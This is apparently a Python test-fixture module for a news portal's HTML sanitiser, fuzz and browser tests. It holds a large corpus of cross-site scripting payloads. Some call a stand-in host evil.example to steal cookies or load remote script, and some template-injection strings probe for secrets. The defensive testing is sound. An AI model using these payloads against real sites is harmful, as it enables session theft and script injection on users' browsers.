"""The hostile-string corpus: the one list of strings that staff and readers might type to run
script on the portal's pages, used by the sanitiser tests (test_sanitize.py), the fuzzing of
every URL (test_fuzz.py), the fields' fast checks (test_hostile_fields.py) and the Chromium
sweep through every text field and page (test_hostile_browser.py, `make hostile-test`).

Each sample is `markup` when, parsed alone, it holds an element, attribute or comment the body
editor cannot produce (test_sanitize.dangers() flags it; test_sanitize checks every label), and
`text` otherwise: characters that must be shown as typed (a bare "javascript:…", entities,
encodings, attribute or element break-outs without markup of their own, template syntax).

What would run script calls something the sweep watches: alert(), confirm(), prompt(), print()
(replaced by recorders), or fetches from evil.example (any request off the site is recorded),
by fetch(), import(), a script or style URL, a refresh or a `location` change.
"""

from dataclasses import dataclass

MARKUP = "markup"
TEXT = "text"

# The long-standing payload of the body samples (test_sanitize's expected outputs name it).
SCRIPT = "alert(document.cookie)"


@dataclass(frozen=True)
class Sample:
    id: str
    text: str
    kind: str
    group: str


def _samples(group, kind, *entries):
    """Samples of one group; an entry (id, text, kind) overrides the group's kind."""
    return [Sample(entry[0], entry[1], (*entry, kind)[2], group) for entry in entries]


CORPUS = [
    # script elements
    *_samples(
        "script",
        MARKUP,
        ("script", f"<script>{SCRIPT}</script><p>Tin</p>"),
        ("script-uppercase", f"<SCRIPT>{SCRIPT}</SCRIPT>"),
        ("script-mixed-case", f"<ScRiPt >{SCRIPT}</sCrIpT >"),
        ("script-nested-broken", f"<scr<script>ipt>{SCRIPT}</script>"),
        ("script-unclosed", f"<script>{SCRIPT}"),
        ("script-src", '<script src="//evil.example/x.js"></script>'),
        ("script-double-bracket", f"<<script>{SCRIPT};//<</script>"),
        ("script-in-p", f'<p>Tin <script type="text/javascript">{SCRIPT}</script>nóng</p>'),
        ("script-in-svg", f"<svg><script>{SCRIPT}</script></svg>"),
        ("script-in-template", f"<template><script>{SCRIPT}</script></template>"),
        ("script-short", "<script>alert(1)</script>"),
        ("script-slash-src", "<script/src=//evil.example/s.js></script>"),
        ("script-module-import", "<script type=module>import('//evil.example/m.js')</script>"),
        ("script-comment-split", "<script>/*</script><script>*/confirm(1)</script>"),
        ("script-form-feed", "<script\x0c>prompt(1)</script>"),
        ("svg-script-href", '<svg><script href="//evil.example/v.js"/></svg>'),
        ("script-fetch-cookie", "<script>fetch('//evil.example/?c='+document.cookie)</script>"),
        ("script-location", "<script>location='//evil.example/'</script>"),
    ),
    # javascript:, vbscript: and data: URLs in href and src, obfuscated
    *_samples(
        "url",
        MARKUP,
        ("href-javascript", f'<a href="javascript:{SCRIPT}">Xem</a>'),
        ("href-javascript-case", f'<a href="JaVaScRiPt:{SCRIPT}">Xem</a>'),
        ("href-javascript-space", f'<a href="  javascript:{SCRIPT}">Xem</a>'),
        ("href-entity-tab", f'<a href="jav&#x09;ascript:{SCRIPT}">Xem</a>'),
        ("href-entity-newline", f'<a href="jav&#x0A;ascript:{SCRIPT}">Xem</a>'),
        ("href-raw-tab", f'<a href="jav\tascript:{SCRIPT}">Xem</a>'),
        (
            "href-decimal-entities",
            '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Xem</a>',
        ),
        ("href-hex-named-entity", '<a href="&#x6A;avascript&colon;alert(1)">Xem</a>'),
        ("href-control-prefix", f'<a href="&#14;javascript:{SCRIPT}">Xem</a>'),
        ("href-vbscript", '<a href="vbscript:msgbox(1)">Xem</a>'),
        (
            "href-data",
            '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Xem</a>',
        ),
        ("src-javascript", f'<img src="javascript:{SCRIPT}" alt="x">'),
        ("src-data", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">'),
        ("src-data-case", '<img src="DaTa:image/png;base64,iVBORw0KGgo=" alt="x">'),
        ("src-vbscript", f'<img src="vbscript:{SCRIPT}">'),
        ("xlink-href", f'<a href="tel:+84226" xlink:href="javascript:{SCRIPT}">Gọi</a>'),
        ("href-unquoted", "<a href=javascript:confirm(1)>Xem</a>"),
        ("href-newline-entity", "<a href='javascript&NewLine;:prompt(1)'>Xem</a>"),
        ("href-tab-entity", '<a href="java&Tab;script:alert(1)">Xem</a>'),
        ("href-hex-padded", '<a href="&#x0000006A;avascript:alert(1)">Xem</a>'),
        (
            "href-decimal-no-semicolon",
            '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58;alert(1)">Xem</a>',
        ),
        ("href-slash-comment", '<a href="javascript://%0Aalert(1)">Xem</a>'),
        ("href-percent-encoded", '<a href="javascript:%61lert(1)">Xem</a>'),
        ("href-data-html", "<a href='data:text/html,<script>alert(1)</script>'>Xem</a>"),
        ("img-src-data-html", '<img src="data:text/html,<script>alert(1)</script>">'),
        (
            "area-href",
            '<map name=m><area shape=rect coords=0,0,9,9 href="javascript:alert(1)"></map>',
        ),
        ("button-formaction", "<form><button formaction=javascript:print()>Gửi</button></form>"),
        ("embed-src-javascript", "<embed src=javascript:alert(1)>"),
        ("object-data-javascript", '<object data="javascript:alert(1)"></object>'),
        ("iframe-src-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
        ("iframe-data-uri", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ),
    # javascript: and other addresses as plain text: harmless unless a template made them a link
    *_samples(
        "url-text",
        TEXT,
        ("text-javascript", "javascript:alert(1)"),
        ("text-javascript-case", "JaVaScRiPt:confirm(1)"),
        ("text-javascript-tab", "java\tscript:prompt(1)"),
        ("text-javascript-entity", "&#106;avascript:alert(1)"),
        ("text-javascript-colon-entity", "javascript&colon;alert(1)"),
        ("text-javascript-control", "\x01javascript:print()"),
        ("text-javascript-newline", "java\nscript:alert(1)"),
        ("text-vbscript", "vbscript:msgbox(1)"),
        ("text-data-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        ("text-protocol-relative", "//evil.example/x.js"),
        ("text-javascript-comment", "javascript://%0Aconfirm(1)"),
    ),
    # event handlers on many tags
    *_samples(
        "handler",
        MARKUP,
        ("img-onerror", f'<img src="/media/a.jpg" onerror="{SCRIPT}">'),
        ("p-onclick", f'<p onclick="{SCRIPT}">Tin nóng</p>'),
        ("a-onmouseover", f'<a href="https://example.org" onmouseover="{SCRIPT}">Xem</a>'),
        ("h2-onfocus", f'<h2 onfocus="{SCRIPT}" tabindex="0">Tiêu đề</h2>'),
        ("table-on", f'<table onpointerenter="{SCRIPT}"><tr><td>1</td></tr></table>'),
        ("figure-on", f'<figure class="image" onanimationstart="{SCRIPT}"></figure>'),
        ("body-onload", f'<body onload="{SCRIPT}"><p>Tin</p></body>'),
        ("details-ontoggle", f'<details open ontoggle="{SCRIPT}"><p>Tin</p></details>'),
        ("video-source-onerror", f'<video><source onerror="{SCRIPT}"></video>'),
        ("marquee-onstart", f'<marquee onstart="{SCRIPT}">Chạy chữ</marquee>'),
        ("li-onclick-uppercase", f'<li ONCLICK="{SCRIPT}">Mục</li>'),
        ("svg-onload-short", "<svg/onload=alert(1)>"),
        ("img-onerror-short", "<img src=x onerror=alert(1)>"),
        ("body-onpageshow", "<body onpageshow=print()>"),
        ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
        ("select-autofocus", "<select autofocus onfocus=confirm(1)></select>"),
        ("textarea-autofocus", "<textarea autofocus onfocus=prompt(1)></textarea>"),
        ("video-onerror", "<video src=x onerror=print()></video>"),
        ("audio-onerror", "<audio src=x onerror=alert(1)>"),
        ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        ("img-onerror-backticks", "<img src=x onerror=alert`1`>"),
        ("img-onerror-concat", "<img src=x onerror=\"window['al'+'ert'](1)\">"),
        ("img-onerror-entity", "<img src=x onerror=&#97;lert(1)>"),
        ("custom-element-onclick", "<x onclick=alert(1)>Bấm vào đây</x>"),
        ("style-onload", "<style onload=confirm(1)></style>"),
        ("object-onerror", "<object data=x onerror=prompt(1)></object>"),
        ("image-onerror", "<image src=x onerror=print()>"),
        ("iframe-onload", "<iframe onload=alert(1)></iframe>"),
        (
            "div-pointer-overlay",
            '<div onpointerover=alert(1) style="position:fixed;inset:0">Tin</div>',
        ),
        ("a-autofocus-onfocus", "<a autofocus tabindex=1 onfocus=confirm(1)>Xem</a>"),
        ("img-onerror-mixed-case", '<img src="/media/x.jpg" oNeRrOr="prompt(1)">'),
        ("body-onhashchange", "<body onhashchange=alert(1)>"),
        ("svg-onload-fetch", "<svg onload=\"fetch('//evil.example/svg')\">"),
        ("img-onerror-import", "<img src=x onerror=\"import('//evil.example/i.js')\">"),
        ("video-poster-onerror", "<video poster=x onerror=alert(1)></video>"),
        ("input-image-onerror", "<input type=image src=x onerror=confirm(1)>"),
    ),
    # embedding other documents
    *_samples(
        "embed",
        MARKUP,
        ("iframe", '<iframe src="https://evil.example/"></iframe>'),
        ("iframe-srcdoc", f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>'),
        ("object", '<object data="https://evil.example/x.swf"></object>'),
        ("embed", '<embed src="https://evil.example/x.swf">'),
        ("frame", f'<frameset><frame src="javascript:{SCRIPT}"></frameset>'),
        ("iframe-srcdoc-entities", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'),
        ("portal", '<portal src="https://evil.example/"></portal>'),
    ),
    # SVG and MathML
    *_samples(
        "svg-math",
        MARKUP,
        ("svg-onload", f'<svg onload="{SCRIPT}"><circle r="5"/></svg>'),
        ("svg-a", f'<svg><a xlink:href="javascript:{SCRIPT}"><text>Bấm</text></a></svg>'),
        (
            "math-maction",
            f'<math><maction actiontype="statusline" xlink:href="javascript:{SCRIPT}">Bấm</maction></math>',
        ),
        (
            "svg-animate-href",
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>Bấm</text></a></svg>",
        ),
        (
            "svg-use-data",
            '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=%22http://www.w3.org/2000/svg%22&gt;&lt;image href=1 onerror=alert(1) /&gt;&lt;/svg&gt;#x"/></svg>',
        ),
        (
            "svg-foreignobject",
            "<svg><foreignObject><img src=x onerror=confirm(1)></foreignObject></svg>",
        ),
        (
            "svg-set-href",
            "<svg><a><set attributeName=href to=javascript:prompt(1) /><text y=9>Xem</text></a></svg>",
        ),
        ("svg-style-import", "<svg><style>@import '//evil.example/svg.css';</style></svg>"),
        ("svg-image-onerror", "<svg><image href=x onerror=print() /></svg>"),
        ("math-href", '<math href="javascript:alert(1)">Bấm</math>'),
        ("math-mi-xlink", '<math><mi xlink:href="javascript:confirm(1)">x</mi></math>'),
        ("math-mtext-img", "<math><mtext><img src=x onerror=prompt(1)></mtext></math>"),
        (
            "math-annotation-html",
            '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
        ),
        ("svg-discard-onbegin", "<svg><discard onbegin=alert(1)>"),
    ),
    # styles
    *_samples(
        "css",
        MARKUP,
        ("style-tag", f"<style>body{{background:url(javascript:{SCRIPT})}}</style>"),
        ("style-attribute", f'<p style="background:url(javascript:{SCRIPT})">Tin</p>'),
        ("style-css-expression", f'<p style="width: expression({SCRIPT})">Tin</p>'),
        (
            "style-link-overlay",
            '<a href="https://evil.example/" style="position:fixed;inset:0">Trúng thưởng</a>',
        ),
        ("style-img", '<img src="/media/a.jpg" alt="x" style="width:100vw">'),
        ("style-td", '<table><tr><td style="background:url(//evil.example/x)">1</td></tr></table>'),
        ("style-import", "<style>@import '//evil.example/a.css';</style>"),
        ("style-background-offsite", "<style>*{background:url(//evil.example/bg.png)}</style>"),
        (
            "style-font-face",
            "<style>@font-face{font-family:x;src:url(//evil.example/f.woff)}body{font-family:x}</style>",
        ),
        (
            "div-style-background",
            '<div style="background-image:url(//evil.example/d.png)">Tin</div>',
        ),
        ("style-behavior", '<p style="behavior:url(//evil.example/x.htc)">Tin</p>'),
        ("style-moz-binding", '<p style="-moz-binding:url(//evil.example/x.xml#x)">Tin</p>'),
        ("style-escaped-url", '<p style="background:\\75\\72\\6c(//evil.example/e.png)">Tin</p>'),
        ("link-stylesheet-short", "<link rel=stylesheet href=//evil.example/l.css>"),
    ),
    # CSS as plain text: a break-out of a style attribute or element, if one were written
    *_samples(
        "css-text",
        TEXT,
        ("text-css-url", "background:url(//evil.example/t.png)"),
        ("text-css-breakout", '";background:url(//evil.example/b.png);"'),
        ("text-css-expression", "width:expression(alert(1))"),
        ("text-css-import", "@import url(//evil.example/t.css);"),
    ),
    # forms
    *_samples(
        "form",
        MARKUP,
        (
            "form-input-button",
            '<form action="https://evil.example/"><input name="password" type="password">'
            f'<button formaction="javascript:{SCRIPT}">Gửi</button></form>',
        ),
        ("isindex", f'<isindex action="javascript:{SCRIPT}" type="image">'),
        ("form-action-javascript", "<form action=javascript:confirm(1)><input type=submit></form>"),
        ("input-formaction", "<input type=submit formaction=javascript:prompt(1) value=Gửi>"),
    ),
    # document-level elements
    *_samples(
        "document",
        MARKUP,
        ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{SCRIPT}">'),
        ("base-href", '<base href="https://evil.example/">'),
        ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
        ("link-css", '<link rel="stylesheet" href="https://evil.example/x.css">'),
        ("meta-refresh-offsite", '<meta http-equiv="refresh" content="0;url=//evil.example/r">'),
        ("meta-charset-utf7", '<meta charset="UTF-7">'),
        ("link-preload-script", '<link rel="preload" as="script" href="//evil.example/p.js">'),
        ("link-modulepreload", '<link rel="modulepreload" href="//evil.example/mp.js">'),
        ("base-javascript", '<base href="javascript:/a/-alert(1)///////"><a href=../x>Xem</a>'),
    ),
    # image tricks
    *_samples(
        "image",
        MARKUP,
        (
            "img-srcset",
            '<img srcset="https://evil.example/track.png 1x" src="/media/a.jpg" alt="x">',
        ),
        ("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
        ("img-clobber", '<img src="/media/a.jpg" usemap="#m" ismap name="getElementById">'),
        (
            "picture-source-offsite",
            '<picture><source srcset="//evil.example/s.webp"><img src="/x.jpg"></picture>',
        ),
        ("img-lowsrc", '<img lowsrc="javascript:alert(1)" src="/x.jpg">'),
        ("img-dynsrc", '<img dynsrc="javascript:alert(1)" src="/x.jpg">'),
    ),
    # comments hiding script
    *_samples(
        "comment",
        MARKUP,
        ("comment-script", f"<!--<script>{SCRIPT}</script>--><p>Tin</p>"),
        ("conditional-comment", f"<!--[if IE]><script>{SCRIPT}</script><![endif]-->"),
        ("comment-bang-close", f"<!-- --!><script>{SCRIPT}</script> -->"),
        ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
        ("comment-empty-close", "<!--><img src=x onerror=confirm(1)>-->"),
        ("processing-instruction", '<?xml-stylesheet href="//evil.example/x.xsl"?><p>Tin</p>'),
        ("doctype-entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "//evil.example/e">]><p>Tin</p>'),
    ),
    # unclosed tags and attributes on disallowed or allowed tags; a tag cut off at the end of
    # the text is none (`text`) until something follows it, as in the sweep's fields
    *_samples(
        "broken",
        MARKUP,
        ("unclosed-a", f'<p>Chưa đóng <a href="javascript:{SCRIPT}">liên kết'),
        ("unclosed-img", f'<p>Chưa đóng <img src="/media/a.jpg" onerror="{SCRIPT}" <b>đậm</b>'),
        ("div-attributes", f'<div class="image" id="main" onclick="{SCRIPT}">Khối</div>'),
        ("span-attributes", f'<span style="color:red" data-x="{SCRIPT}">Đỏ</span>'),
        ("figure-class", '<figure class="image evil-class" id="x"><img src="/a.jpg"></figure>'),
        ("a-target-blank", '<a href="https://example.org" target="_blank">Mở tab</a>'),
        ("a-ping", '<a href="https://example.org" ping="https://evil.example/">Xem</a>'),
        ("td-background", f'<table><tr><td background="javascript:{SCRIPT}">1</td></tr></table>'),
        ("img-unclosed-tag", "<img src=x onerror=alert(1)//", TEXT),
        ("svg-unclosed-tag", "<svg onload=confirm(1)", TEXT),
        ("a-unclosed-tag", "<a href=javascript:prompt(1)>Xem"),
        ("double-brackets", "<<img src=x onerror=print()>>"),
        ("img-quotes-breakout", '<img """><script>alert(1)</script>">'),
        ("img-backtick-attribute", "<img src=`x`onerror=confirm(1)>", TEXT),
        ("slash-separators", "<img/src/onerror=prompt(1)>"),
        ("div-slash-onmouseover", "<div/onmouseover='alert(1)'>Tin</div>"),
        ("attribute-no-space", '<img src="x"onerror="print()">'),
        ("iframe-unclosed", "<iframe src=javascript:alert(1)", TEXT),
        ("null-in-tag", "<img src=x o\x00nerror=alert(1)>"),
        ("nul-byte", "Tin\x00<script>alert(1)</script>"),
    ),
    # parser differentials (mutation XSS)
    *_samples(
        "mxss",
        MARKUP,
        ("noscript-mxss", f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>">'),
        ("svg-style-mxss", f'<svg></p><style><a id="</style><img src=1 onerror={SCRIPT}>">'),
        ("math-mglyph-mxss", f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}>"),
        ("ns", f'<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">{SCRIPT}</xss:script>'),
        (
            "form-math-mxss",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        ),
        (
            "select-template-mxss",
            "<select><template><style><!--</style><a rel=--><img src=x onerror=confirm(1)>",
        ),
        (
            "noembed-mxss",
            '<noembed><img title="</noembed><img src=x onerror=prompt(1)>"></noembed>',
        ),
        ("xmp-mxss", '<xmp><p title="</xmp><img src=x onerror=print()>">'),
        ("title-mxss", '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
        ("textarea-breakout", "</textarea><img src=x onerror=alert(1)>"),
        ("style-breakout", "</style><img src=x onerror=confirm(1)>"),
    ),
    # break-outs of the place a plain text lands in: an attribute, <title>, <script>, XML
    *_samples(
        "breakout",
        MARKUP,
        ("attribute-double-breakout", '"><script>alert(1)</script>'),
        ("attribute-single-breakout", "'><img src=x onerror=confirm(1)>"),
        ("attribute-svg-breakout", "'\"><svg onload=alert(1)>"),
        ("title-breakout", "</title><script>prompt(1)</script>"),
        ("script-breakout", "</script><script>print()</script>"),
        ("json-breakout", '"}</script><script>alert(1)</script>'),
        ("comment-breakout", "--><script>confirm(1)</script>"),
        ("cdata-breakout", "]]><script>prompt(1)</script>"),
        ("option-breakout", "</option></select><img src=x onerror=print()>"),
        (
            "xml-element-breakout",
            '</title><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
        ),
        (
            "polyglot",
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
        ),
        ("noscript-breakout", "</noscript><img src=x onerror=alert(1)>"),
    ),
    *_samples(
        "breakout-text",
        TEXT,
        ("attribute-event-double", '" onmouseover="alert(1)" x="'),
        ("attribute-event-single", "' onfocus='confirm(1)' autofocus='"),
        ("attribute-event-unquoted", "x onmouseover=prompt(1)"),
        ("attribute-style-double", '" style="background:url(//evil.example/a.png)" x="'),
        ("js-string-breakout", "';alert(1);//"),
        ("js-string-double-breakout", '";confirm(1);//'),
        ("json-string-breakout", '\\";prompt(1);//'),
        ("template-literal", "${alert(1)}"),
        ("url-fragment", "#<img src=x onerror=alert(1)>".replace("<", "%3C").replace(">", "%3E")),
    ),
    # encodings and look-alikes: what must come back as typed, never decoded into markup
    *_samples(
        "encoding",
        TEXT,
        ("percent-encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ("double-percent-encoded", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        ("entities-named", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("entities-decimal", "&#60;img src=x onerror=alert(1)&#62;"),
        ("entities-hex", "&#x3C;svg onload=confirm(1)&#x3E;"),
        ("entities-no-semicolon", "&#60&#115&#99&#114&#105&#112&#116&#62prompt(1)"),
        ("js-unicode-escapes", "\\u003cscript\\u003eprint()\\u003c/script\\u003e"),
        ("js-hex-escapes", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
        ("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ("fullwidth", "＜script＞alert(1)＜/script＞"),
        ("small-less-than", "﹤script﹥confirm(1)﹤/script﹥"),
        ("mojibake", "Ã¼scriptÃ¾alert(1)Ã¼/scriptÃ¾"),
        ("zero-width", "<\u200bscript>alert(1)</\u200bscript>", MARKUP),
        ("bom-prefix", "\ufeffjavascript:alert(1)"),
        ("right-to-left-override", "\u202etpircsavaj\u202c Đài Kim Bảng"),
        ("combining-marks", "Z\u0351\u0354\u0347a\u0310\u0343\u0319l\u0314\u0348g\u0344\u031do"),
        ("vietnamese-decomposed", "Đa\u0300i Kim Ba\u0309ng: ho\u0323i nghi\u0323"),
        ("emoji-and-astral", "Tin nóng 🔥📻 \U0001d54f\U0001d54a\U0001d54a"),
        ("fuzz-mixed", "àÀ ĐẠI\u202e\ufeff"),
        ("line-separators", "Dòng một\u2028Dòng hai\u2029Đoạn ba"),
        ("vertical-tab", "Tiêu đề\x0bdán từ Word"),
        ("escape-control", "\x1b[31mĐỏ\x1b[0m"),
        ("backslashes", 'C:\\Users\\tin\\"\\><\\/script\\>alert(1)'),
    ),
    # template syntax of Django and of JavaScript frameworks: shown, never evaluated
    *_samples(
        "templating",
        TEXT,
        ("django-variable", "<p>{{ request.user.password }}</p>"),
        ("django-tag", "<p>{% debug %}{% load static %}</p>"),
        ("angular-expression", "<p>{{constructor.constructor('alert(1)')()}}</p>"),
        ("other-templates", "<p>${7*7} #{7*7} &lt;%= 7*7 %&gt;</p>"),
        ("django-settings", "{{ settings.SECRET_KEY }} {% include 'admin/base.html' %}"),
        ("vue-expression", "{{ _c.constructor('confirm(1)')() }}"),
        ("jinja-class-walk", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("ssi-include", '<!--#exec cmd="id" -->'.replace("<", "&lt;").replace(">", "&gt;")),
        ("erb-expression", "#{prompt(1)} @{print()}"),
    ),
]

SAMPLES = {sample.id: sample for sample in CORPUS}
STRINGS = [sample.text for sample in CORPUS]


def of_kind(kind):
    return [sample for sample in CORPUS if sample.kind == kind]


def of_group(group):
    return [sample for sample in CORPUS if sample.group == group]


# Careless and hostile values for every path segment, query parameter and form field of the
# URL fuzzing (test_fuzz.py): bounds, odd dates, a NUL byte, look-alikes, one corpus string.
# Kept short on purpose: the fuzz test tries each against every route.
FUZZ_VALUES = [
    "abc",
    "\x00",
    "-1",
    "9" * 25,
    "9" * 5000,
    "01/01/0001",
    "31/12/9999",
    "0001-01-01",
    "9999-12-31",
    "x" * 3000,
    SAMPLES["fuzz-mixed"].text,
    SAMPLES["attribute-svg-breakout"].text,
    "",
]
